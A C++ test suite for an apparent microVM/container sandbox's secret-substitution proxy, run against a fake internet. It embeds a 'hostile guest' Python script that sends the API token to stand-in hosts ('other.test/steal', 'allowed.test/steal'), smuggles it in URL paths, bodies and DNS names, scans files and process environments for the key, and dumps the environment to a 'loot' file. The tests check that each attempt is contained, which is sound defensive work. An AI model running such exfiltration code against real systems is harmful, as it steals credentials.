// Secrets end to end against the tests' own internet (tests/support/test_internet.h), with a
// hostile guest: the sandbox holds a token, and the fake api.openai.com of the test internet
// answers only when the real key arrives, which only the sandbox's egress helper holds and
// substitutes on its TLS-terminated connections to that host.
//
// Both backends run the hostile-guest script (SecretsInternet, parameterised): on each, one
// sandbox tries everything in one run, since each microVM case costs a boot under TCG emulation;
// the microVM's file walk covers /proc, /etc, /run, /tmp and the environment, the container's the
// whole tree. The container alone runs the detached case (SecretsInternetContainer): `logs`
// redaction, a file snapshot, and the README's agent-tool example's twin.

#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/support/audit_records.h"
#include "tests/support/backend_state.h"
#include "tests/support/mvmctl.h"
#include "tests/support/prerequisite.h"
#include "tests/support/test_internet.h"

namespace {

namespace fs = std::filesystem;
using mvm::testing::CommandResult;
using mvm::testing::TestInternet;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kWorkloads =
    R"py(from mvm import workload, entrypoint, NetworkPolicy, SecretRef, Volume

POLICY = (NetworkPolicy.deny_by_default()
          .allow_https("api.openai.com", "allowed.test", "*.allowed.test")
          .allow_http("allowed.test", "api.openai.com")
          .allow_dns())
SECRETS = {"OPENAI_API_KEY": SecretRef("openai-api-key", hosts=["api.openai.com"])}


@workload("hostile", image="template:python-3.11", isolation="container", timeout_seconds=120,
          network=POLICY, secrets=SECRETS, volumes=[Volume.memory("/scratch", size_mb=16)])
class Hostile:
    @entrypoint(command=["python3", "-c", "import sys; exec(sys.argv[1])"])
    def script(self): ...
)py";

// The hostile guest. It is told the value's first characters (a fixed prefix every test value
// has), its length and its SHA-256, so that it can recognise the value in anything it reads
// without ever being given it.
constexpr const char* kHostile =
    R"py(import hashlib, json, os, socket, ssl, sys, urllib.error, urllib.request
PREFIX, LENGTH, DIGEST, ROOTS = sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5].split(",")
tok = os.environ.get("OPENAI_API_KEY", "")
print("TOKEN", tok)
unverified = ssl.create_default_context()
unverified.check_hostname = False
unverified.verify_mode = ssl.CERT_NONE
def call(label, url, headers=None, data=None, context=None):
    try:
        req = urllib.request.Request(url, headers=headers or {}, data=data)
        with urllib.request.urlopen(req, timeout=15, context=context) as r:
            print(label, "STATUS", r.status, r.read().decode())
    except urllib.error.HTTPError as e:
        print(label, "STATUS", e.code, e.read().decode())
    except Exception as e:
        print(label, "FAIL", type(e).__name__, e)
bearer = {"Authorization": "Bearer " + tok}
call("API", "https://api.openai.com/v1/chat/completions",
     {**bearer, "Content-Type": "application/json"},
     json.dumps({"model": "m", "messages": [{"role": "user", "content": "2+2"}]}).encode())
call("ECHO", "https://api.openai.com/echo", bearer)
call("BODY", "https://api.openai.com/body", {"Content-Type": "text/plain"},
     ("key=" + tok).encode())
call("PATH", "https://api.openai.com/v1/" + tok, bearer)
call("OTHERHOST", "https://other.test/steal", bearer)
call("PLAINHTTP", "http://allowed.test/steal", bearer)
call("PLAINSECRETHOST", "http://api.openai.com/v1/models", bearer)
call("PASSTHROUGH", "https://allowed.test/steal", bearer, context=unverified)
try:
    socket.getaddrinfo(tok + ".allowed.test", 443)
    print("DNS RESOLVED")
except Exception as e:
    print("DNS FAIL", type(e).__name__)
# Everything readable: files, every process's environment and command line.
def found(data):
    at = data.find(PREFIX.encode())
    while at >= 0:
        if hashlib.sha256(data[at:at + LENGTH]).hexdigest() == DIGEST:
            return True
        at = data.find(PREFIX.encode(), at + 1)
    return False
SKIP = {"kcore", "kmsg", "mem", "pagemap", "sysrq-trigger", "kpagecount", "kpageflags",
        "kpagecgroup", "clear_refs", "task"}
scanned, hits = 0, []
for root in ROOTS:
    for path, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in SKIP and not (root == "/" and path == "/" and
                                                            d in ("sys", "dev"))]
        for f in files:
            if f in SKIP or scanned >= 40000:
                continue
            p = os.path.join(path, f)
            try:
                if not os.path.isfile(p) or os.path.islink(p):
                    continue
                fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                with os.fdopen(fd, "rb") as h:
                    data = h.read(16 << 20)
            except Exception:
                continue
            scanned += 1
            if found(data):
                hits.append(p)
env_text = json.dumps(dict(os.environ)).encode()
if found(env_text):
    hits.append("environ")
print("SCANNED", scanned, "FOUND", json.dumps(hits))
with open("/scratch/loot", "w") as f:
    f.write(json.dumps(dict(os.environ)))
)py";

// A workload the production profile compiles (microVM isolation), for the grant case.
constexpr const char* kGranted = R"py(from mvm import workload, entrypoint, NetworkPolicy, SecretRef


@workload("granted", image="template:python-3.11", timeout_seconds=120,
          network=NetworkPolicy.deny_by_default().allow_https("api.openai.com").allow_dns(),
          secrets={"OPENAI_API_KEY": SecretRef("openai-api-key", hosts=["api.openai.com"])})
class Granted:
    @entrypoint(command=["python3", "-c", "import sys; exec(sys.argv[1])"])
    def script(self): ...
)py";

// The README's agent-tool example (README.md, examples/agent_tool.py), as a test can run it: the
// python-3.11 template instead of the example's Nix flake, and its main.py from a volume.
constexpr const char* kAgentTool =
    R"py(from mvm import workload, entrypoint, NetworkPolicy, SecretRef, Volume


@workload(
    "agent-tool",
    image="template:python-3.11",
    cpu=2,
    memory_mb=2048,
    timeout_seconds=30,
    isolation="container",
    network=NetworkPolicy.deny_by_default().allow_https("api.openai.com").allow_dns(),
    secrets={"OPENAI_API_KEY": SecretRef("openai-api-key", hosts=["api.openai.com"])},
    volumes=[Volume.local("./tool", "/tool", mode="ro")],
)
class AgentTool:
    @entrypoint(command=["python3", "/tool/main.py"])
    def main(self): ...
)py";

constexpr const char* kAgentMain = R"py(import json, os, urllib.request
request = urllib.request.Request(
    "https://api.openai.com/v1/chat/completions",
    data=json.dumps({"model": "gpt-test", "messages": [{"role": "user", "content": "2+2?"}]}).encode(),
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
             "Content-Type": "application/json"})
with urllib.request.urlopen(request, timeout=20) as answer:
    print("answer:", json.load(answer)["choices"][0]["message"]["content"])
)py";

constexpr const char* kContainer = "container";
constexpr const char* kMicrovm = "qemu-microvm";

/// A fresh value for every run: the prefix the guest is told, and 32 random hex digits.
std::string NewValue() {
  std::random_device random;
  std::string value = "sk-mvmtest-";
  for (int i = 0; i < 32; ++i) {
    value += "0123456789abcdef"[random() % 16];
  }
  return value;
}

/// SHA-256 of `text` in hex, by the host's sha256sum (the tests' only other digest).
std::string Sha256(const std::string& text) {
  mvm::testing::CommandOptions options;
  options.stdin_data = text;
  CommandResult r = mvm::testing::RunCommand({"sha256sum"}, options);
  return r.out.substr(0, 64);
}

/// `mvmctl ARGS` (outside the test internet), with `input` on stdin.
CommandResult Local(const std::vector<std::string>& args, const fs::path& state,
                    const std::string& input = "") {
  mvm::testing::CommandOptions options;
  options.stdin_data = input;
  return mvm::testing::RunCommand(mvm::testing::MvmctlArgv(args, state), options);
}

/// Every regular file under `root` (not following symlinks) that holds `needle`.
std::vector<std::string> FilesHolding(const fs::path& root, const std::string& needle) {
  std::vector<std::string> out;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(
           root, fs::directory_options::skip_permission_denied, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
    if (it->is_symlink(ec) || !it->is_regular_file(ec)) {
      continue;
    }
    std::ifstream in(it->path(), std::ios::binary);
    std::string data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (data.find(needle) != std::string::npos) {
      out.push_back(it->path().string());
    }
  }
  return out;
}

class SecretsInternetBase : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (auto missing = TestInternet::MissingPrerequisite()) {
      missing_ = *missing;
      return;
    }
    net_ = new TestInternet();
    if (auto started = net_->Start(); !started) {
      missing_ = "the test internet did not start: " + started.error().message;
      return;
    }
    dir_ = fs::temp_directory_path() / ("mvm-secrets-internet-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    std::ofstream(dir_ / "secrets_internet.py") << kWorkloads;
    fs::create_directories(dir_ / "tool");
    std::ofstream(dir_ / "agent_tool.py") << kAgentTool;
    std::ofstream(dir_ / "granted.py") << kGranted;
    std::ofstream(dir_ / "tool" / "main.py") << kAgentMain;
    value_ = NewValue();
    (void)net_->SetApiKey(value_);
  }

  static void TearDownTestSuite() {
    delete net_;
    net_ = nullptr;
    fs::remove_all(dir_);
  }

  void SetUpOn(const std::string& backend) {
    if (!missing_.empty()) {
      MVM_MISSING_PREREQUISITE() << missing_;
    }
    backend_ = backend;
    auto state = mvm::testing::BackendTestState(backend_);
    ASSERT_TRUE(state) << state.error().message;
    state_ = *state;
    CommandResult set = Local({"secret", "set", "openai-api-key"}, state_, value_ + "\n");
    ASSERT_EQ(set.status, 0) << set.Describe();
    net_->ClearLogs();
  }

  /// mvmctl ARGS in the client namespace. The egress helper verifies upstream servers against the
  /// host's trust store, which is the test CA here (OpenSSL honours SSL_CERT_FILE).
  static CommandResult Mvmctl(std::vector<std::string> args) {
    std::vector<std::string> argv = {"env", "SSL_CERT_FILE=" + net_->ca_cert().string()};
    for (std::string& a : mvm::testing::MvmctlArgv(std::move(args), state_)) {
      argv.push_back(std::move(a));
    }
    return net_->Run(argv, std::nullopt, std::chrono::seconds(backend_ == kMicrovm ? 300 : 120));
  }

  /// The hostile script's argv after `--`: the script and what it is told about the value.
  static std::vector<std::string> HostileArgs(const std::string& roots) {
    return {kHostile, "sk-mvmtest-", std::to_string(value_.size()), Sha256(value_), roots};
  }

  static std::string Name(const std::string& prefix) {
    return prefix + "-" + std::to_string(::getpid());
  }

  static std::vector<nlohmann::json> Audit(const std::string& name, const std::string& event) {
    return mvm::testing::AuditRecords(state_, name, event);
  }

  /// The requests the fake API's server received, as "METHOD path authorization body".
  static std::vector<mvm::testing::ServerEvent> ApiRequests() {
    std::vector<mvm::testing::ServerEvent> out;
    for (auto& e : net_->ServerLog(TestInternet::kApiAddress)) {
      if (e.event == "request") {
        out.push_back(std::move(e));
      }
    }
    return out;
  }

  /// Checks what every hostile run must show, on either backend.
  void ExpectContained(const CommandResult& r, const std::string& name) {
    // The guest holds a token, never the value, and finds the value nowhere it can read.
    EXPECT_THAT(r.out, HasSubstr("TOKEN mvmtok-")) << r.Describe();
    EXPECT_THAT(r.out, Not(HasSubstr(value_))) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("FOUND []")) << r.Describe();
    // The fake API answered: the real key arrived in place of the token.
    EXPECT_THAT(r.out, HasSubstr("API STATUS 200")) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("\"content\": \"4\"")) << r.Describe();
    // An upstream that echoes the header back shows the guest a mask of the value's length.
    EXPECT_THAT(r.out, HasSubstr("\"authorization\": \"Bearer " + std::string(value_.size(), '*')))
        << r.Describe();
    // The token in a URL path is refused, not substituted.
    EXPECT_THAT(r.out, HasSubstr("PATH STATUS 403")) << r.Describe();
    // Other hosts: no rule (denied), plain HTTP (refused), the secret's host over plain HTTP.
    EXPECT_THAT(r.out, Not(HasSubstr("OTHERHOST STATUS 200"))) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("PLAINHTTP STATUS 403")) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("PLAINSECRETHOST STATUS 403")) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("DNS FAIL")) << r.Describe();
    // What the servers saw.
    bool api_ok = false;
    bool body_ok = false;
    for (const auto& e : ApiRequests()) {
      EXPECT_THAT(e.path, Not(HasSubstr("mvmtok-"))) << e.path;
      EXPECT_EQ(e.authorization.find("mvmtok-"), std::string::npos) << e.path;
      api_ok |= e.path == "/v1/chat/completions" && e.authorization == "Bearer " + value_;
      body_ok |= e.path == "/body" && e.body == "key=" + value_;
      EXPECT_TRUE(e.tls) << e.path << ": the value crossed the network in clear";
    }
    EXPECT_TRUE(api_ok) << r.Describe();
    EXPECT_TRUE(body_ok) << r.Describe();
    EXPECT_TRUE(net_->ServerLog(TestInternet::kOtherAddress).empty());
    // The allowed host without the secret got the token over the passthrough path (the proxy
    // cannot read that TLS; the token is useless there), never the value, and nothing over HTTP.
    for (const auto& e : net_->ServerLog(TestInternet::kAllowedAddress)) {
      if (e.event == "request") {
        EXPECT_TRUE(e.tls) << e.path;
        EXPECT_THAT(e.authorization, Not(HasSubstr(value_)));
      }
    }
    // Audited: the release, a use, and each exfiltration attempt by the secret's name.
    ASSERT_EQ(Audit(name, "secret-release").size(), 1u);
    EXPECT_EQ(Audit(name, "secret-release")[0].value("secret", ""), "openai-api-key");
    EXPECT_FALSE(Audit(name, "secret-use").empty());
    std::string reasons;
    for (const nlohmann::json& a : Audit(name, "secret-exfiltration")) {
      EXPECT_EQ(a.value("secret", ""), "openai-api-key") << a.dump();
      reasons += a.value("reason", "") + "\n";
    }
    EXPECT_THAT(reasons, HasSubstr("request target")) << reasons;
    EXPECT_THAT(reasons, HasSubstr("DNS name")) << reasons;
    // The value is nowhere in the state directory: audit log, records, staged files, logs.
    EXPECT_THAT(FilesHolding(state_, value_), ::testing::IsEmpty());
    CommandResult verify = Mvmctl({"audit", "verify"});
    EXPECT_EQ(verify.status, 0) << verify.Describe();
  }

  static inline TestInternet* net_ = nullptr;
  static inline std::string missing_;
  static inline fs::path dir_;
  static inline std::string value_;
  static inline std::string backend_ = kContainer;
  static inline fs::path state_;
};

class SecretsInternet : public SecretsInternetBase,
                        public ::testing::WithParamInterface<std::string> {
 protected:
  void SetUp() override { SetUpOn(GetParam()); }
};

class SecretsInternetContainer : public SecretsInternetBase {
 protected:
  void SetUp() override { SetUpOn(kContainer); }
};

/// The production-profile case: such a plan runs only with microVM isolation.
class SecretsInternetMicrovm : public SecretsInternetBase {
 protected:
  void SetUp() override { SetUpOn(kMicrovm); }
};

TEST_P(SecretsInternet, AHostileGuestUsesTheSecretOnlyThroughItsHostAndNeverHoldsIt) {
  const std::string name = Name("secrets-hostile");
  std::vector<std::string> args = {
      "run", (dir_ / "secrets_internet.py").string(), "--name", name, "--backend", backend_, "--"};
  for (std::string& a : HostileArgs(backend_ == kMicrovm ? "/proc,/etc,/run,/tmp,/scratch" : "/")) {
    args.push_back(std::move(a));
  }
  CommandResult r = Mvmctl(args);
  EXPECT_EQ(r.status, 0) << r.Describe();
  ExpectContained(r, name);
}

INSTANTIATE_TEST_SUITE_P(Backends, SecretsInternet, ::testing::Values(kContainer, kMicrovm),
                         [](const ::testing::TestParamInfo<std::string>& param) {
                           std::string name = param.param;
                           std::replace(name.begin(), name.end(), '-', '_');
                           return name;
                         });

// A detached sandbox: what `logs` shows, and a file snapshot of what the guest wrote.
TEST_F(SecretsInternetContainer, LogsRedactTheTokenAndSnapshotsHoldNoValue) {
  const std::string name = Name("secrets-detached");
  CommandResult up =
      Mvmctl({"up", (dir_ / "secrets_internet.py").string(), "--name", name, "--detach"});
  ASSERT_EQ(up.status, 0) << up.Describe();
  std::vector<std::string> args = {"exec",    name, "--",
                                   "python3", "-c", "import sys; exec(sys.argv[1])"};
  for (std::string& a : HostileArgs("/proc,/etc,/run,/tmp,/scratch,/app")) {
    args.push_back(std::move(a));
  }
  CommandResult r = Mvmctl(args);
  EXPECT_EQ(r.status, 0) << r.Describe();
  EXPECT_THAT(r.out, HasSubstr("API STATUS 200")) << r.Describe();
  EXPECT_THAT(r.out, HasSubstr("FOUND []")) << r.Describe();
  CommandResult logs = Mvmctl({"logs", name});
  EXPECT_EQ(logs.status, 0) << logs.Describe();
  EXPECT_THAT(logs.out, HasSubstr("TOKEN mvmtok-\u2026")) << logs.Describe();
  EXPECT_THAT(logs.out, Not(::testing::ContainsRegex("mvmtok-[a-z2-7]"))) << logs.Describe();
  CommandResult shown = Mvmctl({"logs", name, "--show-tokens"});
  EXPECT_THAT(shown.out, ::testing::ContainsRegex("TOKEN mvmtok-[a-z2-7]{32}")) << shown.Describe();
  CommandResult ps = Mvmctl({"ps", "-v"});
  EXPECT_THAT(ps.out, HasSubstr("secret: openai-api-key as OPENAI_API_KEY")) << ps.Describe();
  CommandResult snap = Mvmctl({"snapshot", name, "--label", "loot"});
  EXPECT_EQ(snap.status, 0) << snap.Describe();
  EXPECT_THAT(FilesHolding(state_, value_), ::testing::IsEmpty());
  CommandResult stop = Mvmctl({"stop", name});
  EXPECT_EQ(stop.status, 0) << stop.Describe();
  (void)Mvmctl({"destroy", name});
  EXPECT_THAT(FilesHolding(state_, value_), ::testing::IsEmpty());
}

// A warm pool's sandbox boots with tokens nobody is given; each claim gets fresh ones, which the
// restarted egress helper replaces.
TEST_F(SecretsInternetContainer, EveryPoolClaimGetsFreshTokensThatTheProxyReplaces) {
  const std::string pool = Name("secrets-pool");
  const std::string file = (dir_ / "secrets_internet.py").string();
  CommandResult started = Mvmctl(
      {"pool", "start", file, "--workload", "hostile", "--name", pool, "--size", "1", "--detach"});
  ASSERT_EQ(started.status, 0) << started.Describe();
  auto ready = [&] {
    for (int i = 0; i < 600; ++i) {  // 60 s
      CommandResult ls = Local({"pool", "ls", "--format", "json"}, state_);
      nlohmann::json list = nlohmann::json::parse(ls.out, nullptr, false);
      if (list.is_object()) {
        for (const nlohmann::json& p : list.value("pools", nlohmann::json::array())) {
          if (p.value("name", "") == pool && p.value("ready", 0) == 1) {
            return true;
          }
        }
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return false;
  };
  const std::string script =
      "import os, urllib.request\n"
      "tok = os.environ['OPENAI_API_KEY']\n"
      "print('TOKEN', tok)\n"
      "req = urllib.request.Request('https://api.openai.com/v1/models',"
      " headers={'Authorization': 'Bearer ' + tok})\n"
      "with urllib.request.urlopen(req, timeout=15) as r:\n"
      "    print('API STATUS', r.status)\n";
  std::vector<std::string> tokens;
  for (const std::string& claimer : {Name("pool-claim-a"), Name("pool-claim-b")}) {
    ASSERT_TRUE(ready()) << "pool " << pool << " has no ready sandbox";
    CommandResult r =
        Mvmctl({"run", file, "--workload", "hostile", "--name", claimer, "--", script});
    EXPECT_EQ(r.status, 0) << r.Describe();
    EXPECT_THAT(r.out, HasSubstr("API STATUS 200")) << r.Describe();
    ASSERT_EQ(Audit(claimer, "claim").size(), 1u) << "not claimed from the pool";
    ASSERT_EQ(Audit(claimer, "secret-release").size(), 1u);
    EXPECT_EQ(Audit(claimer, "secret-release")[0].value("pool", ""), pool);
    const size_t at = r.out.find("TOKEN ");
    ASSERT_NE(at, std::string::npos) << r.Describe();
    tokens.push_back(r.out.substr(at + 6, r.out.find('\n', at) - at - 6));
  }
  (void)Local({"pool", "stop", pool}, state_);
  ASSERT_EQ(tokens.size(), 2u);
  EXPECT_NE(tokens[0], tokens[1]);
  // The upstream got the value for both claims, never a token.
  int answered = 0;
  for (const auto& e : ApiRequests()) {
    EXPECT_EQ(e.authorization, "Bearer " + value_) << e.path;
    answered += e.path == "/v1/models";
  }
  EXPECT_EQ(answered, 2);
  EXPECT_THAT(FilesHolding(state_, value_), ::testing::IsEmpty());
}

TEST_F(SecretsInternetContainer, TheReadmesAgentToolCallsTheApiWithTheRealKey) {
  const std::string name = Name("agent-tool");
  CommandResult r = Mvmctl({"run", (dir_ / "agent_tool.py").string(), "--name", name});
  EXPECT_EQ(r.status, 0) << r.Describe();
  EXPECT_EQ(r.out, "answer: 4\n") << r.Describe();
  std::vector<mvm::testing::ServerEvent> requests = ApiRequests();
  ASSERT_EQ(requests.size(), 1u) << r.Describe();
  EXPECT_EQ(requests[0].authorization, "Bearer " + value_);
  EXPECT_THAT(requests[0].body, HasSubstr("2+2?"));
}

// A production-profile plan gets the secret only by a grant for its workload and signer.
TEST_F(SecretsInternetMicrovm, AProductionPlanGetsTheSecretOnlyByAGrant) {
  const fs::path keys = dir_ / "keys";
  CommandResult made =
      mvm::testing::RunCommand({MVM_MVMCTL_PATH, "key", "gen", "--out", keys.string()});
  ASSERT_EQ(made.status, 0) << made.Describe();
  CommandResult compiled = mvm::testing::RunCommand(
      {MVM_MVMCTL_PATH, "compile", (dir_ / "granted.py").string(), "--profile", "production",
       "--sign", (keys / "mvm.key").string(), "-o", (dir_ / "out").string()});
  ASSERT_EQ(compiled.status, 0) << compiled.Describe();
  const std::string plan = (dir_ / "out" / "granted.plan.json").string();
  const std::string pub = (keys / "mvm.pub").string();
  const std::string name = Name("secrets-granted");
  CommandResult refused = Mvmctl(
      {"run", plan, "--trust", pub, "--name", name, "--backend", backend_, "--", "print('ran')"});
  EXPECT_EQ(refused.status, 125) << refused.Describe();
  EXPECT_THAT(refused.err, HasSubstr("may not have secret `openai-api-key`")) << refused.Describe();
  EXPECT_THAT(refused.err, HasSubstr("mvmctl secret grant openai-api-key --workload granted"))
      << refused.Describe();
  EXPECT_THAT(refused.out, Not(HasSubstr("ran")));
  // The grant the refusal names, with its signer, admits the same plan.
  const std::string command = refused.err.substr(refused.err.find("mvmctl secret grant"));
  std::vector<std::string> grant = {"secret",     "grant",   "openai-api-key",
                                    "--workload", "granted", "--signer"};
  const size_t signer = command.find("--signer ") + 9;
  grant.push_back(command.substr(signer, command.find_first_of("` \n", signer) - signer));
  CommandResult granting = Local(grant, state_);
  ASSERT_EQ(granting.status, 0) << granting.Describe();
  CommandResult granted =
      Mvmctl({"run", plan, "--trust", pub, "--name", name, "--backend", backend_, "--",
              "import os; print('ran', os.environ['OPENAI_API_KEY'][:7])"});
  grant[1] = "revoke";
  (void)Local(grant, state_);
  EXPECT_EQ(granted.status, 0) << granted.Describe();
  EXPECT_THAT(granted.out, HasSubstr("ran mvmtok-")) << granted.Describe();
  ASSERT_FALSE(Audit(name, "secret-release").empty());
  EXPECT_EQ(Audit(name, "secret-release").back().value("basis", ""), "grant");
}

// A full snapshot of a VM with secrets (encrypted at rest): its copies trust the VM's egress CA,
// which the snapshot carries sealed with the store's key; each copy gets tokens of its own that
// only its own helper replaces; the source's token stands for nothing in a copy; and no file of
// the state directory, the snapshot's included, holds the value.
TEST_F(SecretsInternetMicrovm, ForksOfASnapshotGetFreshTokensThatOnlyTheirOwnHelperReplaces) {
  const std::string src = Name("secrets-snap");
  const std::vector<std::string> forks = {Name("secrets-fork-a"), Name("secrets-fork-b")};
  const std::string file = (dir_ / "secrets_internet.py").string();
  auto cleanup = [&] {
    for (const std::string& n : forks) {
      (void)Mvmctl({"destroy", n});
    }
    (void)Mvmctl({"destroy", src});
    (void)Mvmctl({"snapshot", "rm", src, "s1"});
  };
  cleanup();
  CommandResult up = Mvmctl(
      {"up", file, "--workload", "hostile", "--name", src, "--backend", backend_, "--detach"});
  ASSERT_EQ(up.status, 0) << up.Describe();
  // Calls the API with the sandbox's own token, or with the one given.
  const std::string script =
      "import os, sys, urllib.error, urllib.request\n"
      "tok = sys.argv[1] if len(sys.argv) > 1 else os.environ['OPENAI_API_KEY']\n"
      "print('TOKEN', os.environ['OPENAI_API_KEY'])\n"
      "req = urllib.request.Request('https://api.openai.com/v1/models',"
      " headers={'Authorization': 'Bearer ' + tok})\n"
      "try:\n"
      "    with urllib.request.urlopen(req, timeout=15) as r:\n"
      "        print('API STATUS', r.status)\n"
      "except urllib.error.HTTPError as e:\n"
      "    print('API STATUS', e.code)\n";
  auto call = [&](const std::string& name, const std::string& token) {
    std::vector<std::string> args = {"exec", name, "--", "python3", "-c", script};
    if (!token.empty()) {
      args.push_back(token);
    }
    return Mvmctl(args);
  };
  auto token_of = [](const CommandResult& r) {
    const size_t at = r.out.find("TOKEN ");
    return at == std::string::npos ? std::string()
                                   : r.out.substr(at + 6, r.out.find('\n', at) - at - 6);
  };
  CommandResult before = call(src, "");
  EXPECT_THAT(before.out, HasSubstr("API STATUS 200")) << before.Describe();
  const std::string source_token = token_of(before);
  ASSERT_THAT(source_token, HasSubstr("mvmtok-"));

  CommandResult snap = Mvmctl({"snapshot", src, "--full", "--encrypt", "--label", "s1"});
  ASSERT_EQ(snap.status, 0) << snap.Describe();
  std::vector<std::string> tokens = {source_token};
  for (const std::string& fork : forks) {
    CommandResult restored = Mvmctl({"restore", src, "s1", "--as", fork});
    ASSERT_EQ(restored.status, 0) << restored.Describe();
    CommandResult r = call(fork, "");
    EXPECT_THAT(r.out, HasSubstr("API STATUS 200")) << r.Describe();
    const std::string token = token_of(r);
    EXPECT_THAT(token, HasSubstr("mvmtok-")) << r.Describe();
    for (const std::string& seen : tokens) {
      EXPECT_NE(token, seen) << fork << " holds a token another sandbox held";
    }
    tokens.push_back(token);
    ASSERT_EQ(Audit(fork, "secret-release").size(), 1u) << fork;
  }
  // The source's token, used in a copy: its helper does not know it, the API gets no key.
  CommandResult stale = call(forks[0], source_token);
  EXPECT_THAT(stale.out, HasSubstr("API STATUS 401")) << stale.Describe();
  int with_value = 0;
  for (const auto& e : ApiRequests()) {
    with_value += e.authorization == "Bearer " + value_;
  }
  EXPECT_EQ(with_value, 3) << "the source and each fork, once each";
  EXPECT_THAT(FilesHolding(state_, value_), ::testing::IsEmpty());
  cleanup();
}

}  // namespace
